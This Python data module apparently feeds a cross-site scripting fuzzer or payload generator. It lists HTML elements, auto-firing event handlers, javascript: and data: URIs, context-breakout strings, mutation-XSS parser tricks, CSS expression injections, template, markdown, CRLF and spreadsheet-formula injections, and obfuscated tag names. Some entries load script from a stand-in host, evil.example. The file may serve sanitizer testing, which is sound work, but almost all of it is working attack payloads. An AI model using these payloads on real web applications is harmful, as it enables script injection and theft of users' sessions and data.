"""The elements, attributes, addresses and contexts that attacks are made of."""

CALL = "steal()"
ELEMENTS = (
    "a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big "
    "blink body br button canvas caption center cite code col colgroup content data datalist dd "
    "del details dfn dialog dir div dl dt element em embed fencedframe fieldset figcaption figure "
    "font footer form frame frameset geolocation h1 head header hgroup hr html i iframe image img "
    "input ins isindex kbd keygen label legend li link listing main map mark marquee menu "
    "menuitem meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup "
    "option output p param picture plaintext portal pre progress q rp rt ruby s samp script "
    "search section select shadow slot small source spacer span strike strong style sub summary "
    "sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var "
    "video wbr xmp x-own math"
).split()
EVENTS = (
    "abort animationend animationstart auxclick beforecopy beforeinput beforematch beforetoggle "
    "beforeunload blur bounce canplay change click contextmenu copy cuechange cut dblclick drag "
    "dragend drop error finish focus focusin formdata fullscreenchange gotpointercapture "
    "hashchange input invalid keydown keypress load loadedmetadata loadstart message mousedown "
    "mouseenter mouseover mousewheel pagehide pageshow paste play pointerdown pointerenter "
    "pointerrawupdate popstate reset resize scroll scrollend scrollsnapchange search "
    "securitypolicyviolation select show start submit toggle touchstart transitionend "
    "transitionrun unload volumechange webkitanimationend wheel"
).split()
# Of these the browser needs nobody to do anything.
BY_ITSELF = {
    "img": "src=x onerror",
    "svg": "onload",
    "body": "onload",
    "iframe": "onload",
    "audio": "src=x onerror",
    "video": "src=x onerror",
    "input": "autofocus onfocus",
    "details": "open ontoggle",
    "marquee": "onstart",
    "object": "data=x onerror",
    "script": "src=x onerror",
    "link": "rel=stylesheet href=x onerror",
    "style": "onload",
    "p": "style='animation:x' onanimationstart",
    "a": "id=x tabindex=1 autofocus onfocus",
    "textarea": "autofocus onfocus",
    "select": "autofocus onfocus",
    "x-own": "tabindex=1 autofocus onfocus",
}
LINKS = (
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
    "<a href='{}' target=_blank>x</a>",
    '<a hreflang=en href="{}">x</a>',
    '<a href="#" xlink:href="{}">x</a>',
    '<map><area shape=default href="{}"></map>',
    '<form action="{}"><button>x</button></form>',
    '<form><button formaction="{}">x</button></form>',
    '<form><input type=image src=x formaction="{}"></form>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<img src="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<svg><image href="{}"/><use href="{}"/></svg>',
    "<svg><animate attributeName=href values='{}'/></svg>",
    '<math href="{}"><mtext>x</mtext></math>',
    '<base href="{}">',
    '<link rel=stylesheet href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<body background="{}">',
    '<video poster="{}"></video>',
    '<blockquote cite="{}">x</blockquote>',
    '<table background="{}"><tr><td>x</table>',
    '<a ping="{}" href="https://a.example">x</a>',
    '<script src="{}"></script>',
)
SCRIPTS = (
    f"javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+#{CALL}",
    f"data:image/svg+xml,<svg onload={CALL}>",
    f"vbscript:{CALL}",
    f"view-source:javascript:{CALL}",
    f"feed:javascript:{CALL}",
    f"blob:{CALL}",
    f"//evil.example/{CALL}",
    f"/\\evil.example/{CALL}",
    f"https:evil.example/{CALL}",
    f"jar:javascript:{CALL}!/",
)
# Where a tag, an attribute, a comment or a text of another language may be left.
WAYS_OUT = (
    *('">', "'>", ">", "`>", '" ', "' ", "--> ", "--!>", "]]>", "?>", "%>", "*/", "\n\n", "\\"),
    *("</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</xmp>"),
    *("</iframe>", "</noembed>", "</noframes>", "</select>", "</svg>", "</math>", "</option>"),
    *("</table>", "</body></html>", "</div></div></div>", "<!--", "<![CDATA[", "<!doctype ", "<?"),
)
BODIES = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg/onload={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'>",
    f"<a href=javascript:{CALL}>x",
    f"<input autofocus onfocus={CALL} ",
    f"onmouseover={CALL} x=",
)
# What a parser reads as another language, as text, or in another place than it stands.
NESTS = (
    *("svg", "math", "math><mtext", "math><mi", "math><annotation-xml encoding=text/html"),
    *("svg><foreignObject", "svg><desc", "svg><title", "math><mtext><table><mglyph"),
    *("math><mtext><table><malignmark", "table", "table><tr", "table><caption", "select"),
    *("select><option", "template", "noscript", "xmp", "noembed", "noframes", "plaintext"),
    *("listing", "form", "frameset", "colgroup", "textarea", "title", "style", "iframe", "button"),
    *("p", "a", "b", "nobr", "dl><dd", "ul><li", "ruby><rt", "object", "marquee", "applet"),
)
LEAVES = (
    f"<style><!--</style><img title='--&gt;&lt;img src=x onerror={CALL}&gt;'>",
    f"<style><img src=</style><img src=x onerror={CALL}//>",
    f"<a title='</style><img src=x onerror={CALL}>'>x",
    f"<p title='</noscript><img src=x onerror={CALL}>'>x",
    f"<!--<img src='--><img src=x onerror={CALL}//'>",
    f"<![CDATA[><img src=x onerror={CALL}>]]>",
    f"<script>{CALL}</script>",
    f"<image href=x onerror={CALL}></image><img src=x onerror={CALL}>",
    f"</p><style><a id='</style><img src=x onerror={CALL}>'>",
    f"<b><p></b><img src=x onerror={CALL}>",
)
STYLES = (
    f"background:url(javascript:{CALL})",
    f"width:expression({CALL})",
    f"w\\idth:exp/**/ression({CALL})",
    f"-moz-binding:url(//evil.example/x#{CALL})",
    f"behavior:url(//evil.example/{CALL})",
    f"@import 'javascript:{CALL}'",
    f"list-style-image:url('javascript:{CALL}')",
    f"content:'</style><script>{CALL}</script>'",
    f"animation-name:x;color:/*{CALL}*/red",
    f"position:fixed;inset:0;background:red;x:{CALL}",
)
PLAIN = (
    *("{{constructor.constructor('steal()')()}}", "{% steal() %}", "${steal()}", "#{steal()}"),
    *("<%= steal() %>", "{{7*7}}steal()", "[[${steal()}]]", "@(steal())", "=cmd|'/c steal()'!A1"),
    *("[x](javascript:steal())", "![x](javascript:steal())", "[x]: javascript:steal()\n\n[x]"),
    *("<javascript:steal()>", "[x](<javascript:steal()>)", "[x](data:text/html,steal())"),
    *("[x](x 'a\"onmouseover=steal()')", "`<img src=x onerror=steal()>`", "    <script>steal()"),
    *("```\n</code></pre><script>steal()</script>\n```", "| <img src=x onerror=steal()> |\n|-|"),
    *("\\<img src=x onerror=steal()>", "*<script>*steal()", "<!-- -->\n<script>steal()</script>"),
    *("\u2028steal()//", "\u2029</script><script>steal()", "';steal();//", '";steal();//'),
    *("'-steal()-'", "\\';steal();//", "`;steal();`", "</script\u2028><script>steal()</script>"),
    *("x\r\nContent-Type: text/html\r\n\r\n<script>steal()</script>", "x\nX-Steal: steal()"),
    *("BEGIN:VEVENT\r\nURL:javascript:steal()", "\ufeff<script>steal()</script>", "&{steal()};"),
)
ODD_NAMES = (
    *("script", "ScRiPt", "scr\x00ipt", "scr<script>ipt", "script/x", "script\x0c", "script "),
    *("script\n", "svg:script", "\x00script", "script/", "script x=1", "scr\u0131pt"),
    *("\u017fcript", "sc\u200bript", "script a='>'", "script/src=data:,steal()"),
)
